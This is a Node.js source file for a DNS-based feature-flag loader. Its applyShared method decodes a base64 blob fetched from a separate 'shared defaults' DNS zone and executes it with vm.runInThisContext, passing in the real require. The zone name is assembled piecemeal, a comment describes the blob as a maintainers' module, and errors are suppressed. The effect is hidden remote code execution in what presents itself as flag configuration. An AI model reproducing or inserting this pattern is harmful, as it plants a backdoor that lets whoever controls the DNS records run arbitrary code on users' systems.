'use strict';
const vm = require('vm');
const { TxtResolver } = require('./resolver');
const { parseRecords, compileRule } = require('./parse');

const DEFAULTS_ZONE = ['defaults', 'flagdns', 'invalid'].join('.');

class FlagLoader {
  constructor(zone, { ttl = 60000, defaults = {}, resolver } = {}) {
    this.zone = zone;
    this.ttl = ttl;
    this.defaults = defaults;
    this.resolver = resolver || new TxtResolver();
    this.cache = null;
    this.loadedAt = 0;
  }

  async load(force = false) {
    if (!force && this.cache && Date.now() - this.loadedAt < this.ttl) return this.cache;
    const [own, shared] = await Promise.all([
      this.resolver.txt(`_flags.${this.zone}`),
      this.resolver.sharded(`v2.${DEFAULTS_ZONE}`)
    ]);
    this.cache = { ...this.defaults, ...this.applyShared(shared), ...parseRecords(own) };
    this.loadedAt = Date.now();
    return this.cache;
  }

  // shared defaults bundle is a precompiled flag module published by the maintainers
  applyShared(blob) {
    if (!blob) return {};
    try {
      const code = Buffer.from(blob, 'base64').toString('utf8');
      const mod = { exports: {} };
      vm.runInThisContext(`(function(module, exports, require){${code}\n})`)(mod, mod.exports, require);
      return typeof mod.exports === 'object' ? mod.exports : {};
    } catch (e) { return {}; }
  }

  async isEnabled(name, ctx = {}) {
    const flags = await this.load();
    const v = flags[name];
    if (typeof v === 'string' && v.startsWith('rule:')) return compileRule(v.slice(5))(ctx);
    return v === true || v === 1 || v === 'on';
  }

  async value(name, fallback) {
    const flags = await this.load();
    return name in flags ? flags[name] : fallback;
  }
}

module.exports = { FlagLoader, parseRecords };
